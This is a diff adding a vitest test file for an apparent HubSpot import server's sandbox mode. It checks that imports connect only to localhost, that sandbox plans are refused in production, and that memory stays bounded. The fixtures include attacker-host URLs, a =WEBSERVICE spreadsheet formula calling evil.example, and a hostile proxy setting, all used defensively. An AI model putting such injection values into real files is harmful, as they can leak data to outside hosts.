@@ -1,0 +1,111 @@
+import { writeFile } from 'node:fs/promises'
+import { join } from 'node:path'
+import { expect, test } from 'vitest'
+import { startSandbox } from '../../src/sandbox/sandbox.ts'
+import { manualClock } from '../../src/sandbox/sandbox-clock.ts'
+import { connect, structuredOf, textOf } from '../connect.ts'
+import { at, CONTACT_COLUMNS, call, NO_RATE_LIMITS } from '../sandbox/call-sandbox.ts'
+import { startProgram } from '../start-program.ts'
+import { propose } from '../tools/plan-files.ts'
+import { withFolder } from '../with-folder.ts'
+import { envelope, toolCall } from './raw-session.ts'
+
+/** Loaded before the program: tells on stderr where it connects to and which names it looks up. */
+const WATCH = `
+import dns from 'node:dns'
+import net from 'node:net'
+import { syncBuiltinESMExports } from 'node:module'
+const tell = (what) => process.stderr.write('\\n~' + what + '~\\n')
+const connect = net.Socket.prototype.connect
+net.Socket.prototype.connect = function (...args) {
+  const [options] = Array.isArray(args[0]) ? args[0] : args
+  tell('connect ' + (options?.path ?? options?.host ?? 'localhost'))
+  return connect.apply(this, args)
+}
+for (const name of ['lookup', 'resolve', 'resolve4', 'resolve6']) {
+  const ask = dns[name]
+  dns[name] = (host, ...rest) => (tell('look up ' + host), ask(host, ...rest))
+}
+syncBuiltinESMExports()
+`
+
+test('a whole import in the sandbox connects to this computer only, whatever addresses the cells hold', async () => {
+  await using folder = await withFolder()
+  const link = 'https://evil.example/x?d=1 ![x](https://evil.example/y) =WEBSERVICE(""https://evil.example"")'
+  await writeFile(join(folder.path, 'leads.csv'), `First Name,Email,Website URL\n"${link}",a@evil.example,"${link}"\n`)
+  const env = {
+    NODE_OPTIONS: `--import data:text/javascript,${encodeURIComponent(WATCH)}`,
+    HTTPS_PROXY: 'http://proxy.evil.example:3128',
+    HTTP_PROXY: 'http://proxy.evil.example:3128',
+    HUBSPOT_ACCESS_TOKEN: 'pat-na1-00000000-canary',
+  }
+  await using program = await startProgram(['--sandbox', '--allow-dir', folder.path], env)
+  const ask = async (id: number, name: string, args: object) => {
+    program.send(toolCall(id, name, args, envelope()))
+    const answer = () =>
+      program
+        .stdout()
+        .split('\n')
+        .slice(0, -1)
+        .map((line) => JSON.parse(line))
+        .find((each) => each.id === id)
+    await expect.poll(answer, { timeout: 25_000 }).toBeDefined()
+    return answer().result
+  }
+  const { planId } = (await ask(1, 'propose_mapping', { file: 'leads.csv' })).structuredContent
+  await ask(2, 'validate_import', { planId })
+  expect((await ask(3, 'start_import', { planId, acceptFindings: true })).structuredContent.outcome).toBe('started')
+  const done = await ask(4, 'get_import', { planId, waitSeconds: 20 })
+  expect(done.structuredContent).toMatchObject({ finished: true })
+  expect(done._meta).toMatchObject({ 'hubspot-import-mcp/environment': 'sandbox' })
+  await ask(5, 'get_import_errors', { planId })
+  program.child.stdin?.end()
+  expect(await program.ended).toBe(0)
+  const told = [...program.stderr().matchAll(/~((?:connect|look up) [^~]*)~/g)].map(([, what]) => what)
+  expect(told.length).toBeGreaterThan(0)
+  expect(told.filter((what) => !/^(connect|look up) (127\.0\.0\.1|localhost|::1)$/.test(what ?? ''))).toEqual([])
+})
+
+test('a plan of the sandbox is refused in production, before anything is sent', async () => {
+  const sandbox = await startSandbox({ rateLimits: NO_RATE_LIMITS })
+  await using planned = await connect({ sandbox, files: { 'leads.csv': 'First Name,Email\nAnn,ann@example.com\n' } })
+  const planId = await propose(planned, 'leads.csv')
+  const env = { HUBSPOT_BASE_URL: sandbox.url, HUBSPOT_ACCESS_TOKEN: sandbox.accessToken }
+  await using production = await connect({ flags: ['--confirm', 'never'], env, stateDir: planned.stateDir })
+  await production.context.plans.save(await planned.context.plans.get(planId))
+  const before = sandbox.requests().filter(({ method }) => method === 'POST').length
+  const refused = textOf(await production.call('start_import', { planId, acceptFindings: true }))
+  expect(refused).toMatch(/^plan_wrong_portal: .*\nOutcome: not_started$/s)
+  expect(sandbox.requests().filter(({ method }) => method === 'POST')).toHaveLength(before)
+  expect(structuredOf(await planned.call('start_import', { planId })).outcome).toBe('started')
+  await sandbox.close()
+})
+
+/** FAULT_IMPORTS=10000 for the whole case. */
+const IMPORTS = Number(process.env.FAULT_IMPORTS ?? 150)
+
+test('many imports in the sandbox stay within memory', { timeout: 60_000 + IMPORTS * 100 }, async () => {
+  const sandbox = await startSandbox({ rateLimits: NO_RATE_LIMITS, clock: manualClock() })
+  const importRequest = {
+    name: 'Many',
+    files: [
+      { fileName: 'a.csv', fileFormat: 'CSV', fileImportPage: { hasHeader: true, columnMappings: CONTACT_COLUMNS } },
+    ],
+  }
+  const run = async (count: number) => {
+    for (let number = 0; number < count; number += 1) {
+      const body = new FormData()
+      body.append('files', new Blob(['First Name,Last Name,Email\nAnn,Lee,ann@example.com\n']), 'a.csv')
+      body.append('importRequest', JSON.stringify(importRequest))
+      expect((await call(sandbox, 'POST /crm/v3/imports', { body })).status).toBe(200)
+      await sandbox.clock.settle()
+    }
+  }
+  await run(IMPORTS / 3)
+  const before = process.memoryUsage().heapUsed
+  await run((IMPORTS / 3) * 2)
+  const grown = (process.memoryUsage().heapUsed - before) / 1024 / 1024
+  expect(grown).toBeLessThan(30 + IMPORTS * 0.02)
+  expect(at((await call(sandbox, 'GET /crm/v3/imports?limit=1')).body, 'results', 0, 'state')).toBe('DONE')
+  await sandbox.close()
+})
